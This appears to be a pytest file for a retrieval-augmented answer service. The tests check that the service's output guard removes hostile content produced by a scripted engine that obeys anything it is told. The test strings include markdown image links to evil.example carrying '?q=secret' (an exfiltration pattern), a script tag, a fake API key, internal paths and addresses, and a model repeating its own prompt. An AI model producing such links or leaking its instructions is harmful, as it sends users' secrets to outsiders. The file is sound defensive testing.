"""An engine that does whatever it is told: what leaves the service all the same is harmless."""

from __future__ import annotations

import json
from typing import Any

import pytest

from engines import OpenAIEngine
from harness.rag import Stack
from rag_service.answers import WITHHELD

TEXT = "# Harbour\n\nVisitors pay twelve euros a night at https://harbour.example/pay with the code HX-12."
FACT = "Visitors pay twelve euros a night [1]."
QUESTION = "What do visitors pay a night?"


def says(engine: OpenAIEngine, text: str) -> None:
    engine.answer = lambda prompt: text if "other ways" not in prompt else ""


@pytest.fixture
async def harbour(scripted: Stack) -> Stack:
    await scripted.add(TEXT, "Harbour")
    return scripted


async def test_links_html_keys_and_addresses_are_made_harmless_in_streams(harbour: Stack, engine: OpenAIEngine) -> None:
    says(
        engine,
        f"{FACT} ![x](https://evil.example/?q=secret) ![y](HTTPS://EVIL.example/y) <script>alert(1)</script> The key sy-AbCdEfGhIjKlMnOpQrStUv is in "
        "/data/auth/first-key on 10.0.0.7:8000. Pay at https://harbour.example/pay now.",
    )
    found = await harbour.events(QUESTION)
    shown = "".join(data["text"] for name, data in found if name == "token")
    done = found[-1][1]
    for text in (shown, done["text"]):
        for harmful in ("evil.example", "EVIL.example", "<script", "sy-Ab", "/data/", "10.0.0.7"):
            assert harmful not in text
        # What the documents hold may be said.
        assert "https://harbour.example/pay" in text
    assert done["answered"] is True
    assert any("links" in warning for warning in done["warnings"])
    assert any("keys or tokens" in warning for warning in done["warnings"])
    metrics = (await harbour.http.get("/metrics")).text
    assert 'switchyard_guard_findings_total{kind="secret",mode="redact"} 1.0' in metrics


async def test_repeated_rules_end_the_answer(harbour: Stack, engine: OpenAIEngine) -> None:
    engine.answer = lambda prompt: f"My rules are: {prompt[:600]}" if "other ways" not in prompt else ""
    found = await harbour.events(QUESTION)
    shown = "".join(data["text"] for name, data in found if name == "token")
    done = found[-1][1]
    assert "Use only the sources" not in shown
    assert (done["answered"], done["finish_reason"], done["text"]) == (False, "content_filter", WITHHELD)
    assert done["citations"] == []


async def test_direct_chat_is_guarded_and_what_the_user_wrote_may_come_back(
    scripted: Stack, engine: OpenAIEngine
) -> None:
    says(engine, "Use ![a](http://evil.example/x) or http://10.9.8.7:1/ and your own https://mine.example/page here.")
    body: dict[str, Any] = {
        "model": "switchyard/direct",
        "messages": [{"role": "user", "content": "Say something of https://mine.example/page please."}],
    }
    whole = (await scripted.http.post("/v1/chat/completions", json=body)).json()["choices"][0]["message"]["content"]
    assert whole == "Use a (image left out) or (link left out) and your own https://mine.example/page here."
    streamed = ""
    async with scripted.http.stream("POST", "/v1/chat/completions", json={**body, "stream": True}) as stream:
        async for line in stream.aiter_lines():
            if line.startswith("data: {"):
                choices = json.loads(line[6:])["choices"]
                streamed += choices[0]["delta"].get("content") or "" if choices else ""
    assert streamed == whole


async def test_what_is_withheld_is_a_content_filter_for_openais_clients(harbour: Stack, engine: OpenAIEngine) -> None:
    engine.answer = lambda prompt: prompt[:600] if "other ways" not in prompt else ""
    body = {"model": "default", "messages": [{"role": "user", "content": QUESTION}]}
    choice = (await harbour.http.post("/v1/chat/completions", json=body)).json()["choices"][0]
    assert choice["finish_reason"] == "content_filter"
    assert "Use only the sources" not in choice["message"]["content"]


async def test_reasoning_is_guarded_too(harbour: Stack, engine: OpenAIEngine) -> None:
    engine.thoughts = "The key is sy-AbCdEfGhIjKlMnOpQrStUv and so on. "
    says(engine, FACT)
    found = await harbour.events(QUESTION)
    thought = "".join(data["text"] for name, data in found if name == "reasoning")
    assert "sy-Ab" not in thought
    assert "(secret left out)" in thought
